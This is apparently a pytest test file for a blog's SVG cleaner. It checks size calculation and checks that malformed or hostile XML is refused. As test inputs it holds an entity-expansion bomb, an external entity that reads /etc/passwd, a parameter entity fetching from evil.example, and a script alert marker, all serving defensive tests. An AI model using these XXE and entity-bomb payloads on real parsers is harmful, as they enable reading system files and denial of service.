"""SVG pictures: checked, measured, kept."""

from zipfile import ZipFile

import pytest

from blog.lib import images
from blog.lib.images import ImageError
from tests.lib.shared import shared


def svg(attributes, inside="<rect/>", before=""):
    return f'{before}<svg xmlns="http://www.w3.org/2000/svg" {attributes}>{inside}</svg>'.encode()


BOMB = '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
FILES = {
    "a page": b"<!doctype html><html></html>",
    "a well-formed page": b'<html xmlns="http://www.w3.org/1999/xhtml"/>',
    "an svg of no namespace": b"<svg/>",
    "an svg that never ends": svg("")[:-3],
    "text behind the end": svg("") + b"x",
    "an entity bomb": svg("", "&b;", BOMB),
    "an entity from outside": svg("", "&x;", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    "a parameter entity": svg("", "", '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>'),
    "an unknown encoding": svg("", "", '<?xml version="1.0" encoding="nonsense"?>'),
    "an encoding of many bytes": svg("", "", '<?xml version="1.0" encoding="shift_jis"?>'),
    "more than two megabytes": svg("", " " * 2_000_000),
}


@pytest.mark.parametrize(
    ("attributes", "size"),
    [
        ('width="40" height="20"', (40, 20)),
        ('width="40px" height="20.4px" viewBox="0 0 1 1"', (40, 20)),
        ('width="1in" height="2.54cm"', (96, 96)),
        ('viewBox="0 0 640 480"', (640, 480)),
        ('viewBox="0,0,640,480" width="100%"', (640, 480)),
        ('viewBox="0 0 640 480" width="320"', (320, 240)),
        ('viewBox="0 0 640 480" height="240"', (320, 240)),
        ('viewBox="broken" width="wide"', (300, 150)),
        ('viewBox="0 0 0 0"', (300, 150)),
        ('viewBox="0 0 nan 5"', (300, 150)),
        ('viewBox="0 0 inf 5"', (300, 150)),
        ('width="1e9" height="99999999999"', (10_000, 10_000)),
        ("", (300, 150)),
    ],
)
def test_the_size_is_what_a_browser_would_take(attributes, size):
    picture = images.clean(svg(attributes))

    assert (picture.width, picture.height) == size


def test_an_svg_is_kept_as_it_is():
    data = b"\xef\xbb\xbf" + svg("", "<script>alert(1)</script>", '<?xml version="1.0"?>\n<!-- x -->')

    picture = images.clean(data)

    assert (picture.data, picture.extension, picture.media_type) == (data, "svg", "image/svg+xml")


@pytest.mark.parametrize("data", FILES.values(), ids=FILES.keys())
def test_what_is_no_plain_svg_is_refused(data):
    with pytest.raises(ImageError):
        images.clean(data)


def test_every_svg_of_a_real_blog_is_accepted():
    with ZipFile(shared("data/markdown-rust-blog.zip")) as archive:
        drawings = [archive.read(name) for name in archive.namelist() if name.endswith(".svg")]

    sizes = {(picture.width, picture.height) for picture in map(images.clean, drawings)}

    assert len(drawings) == 127
    assert (300, 150) not in sizes
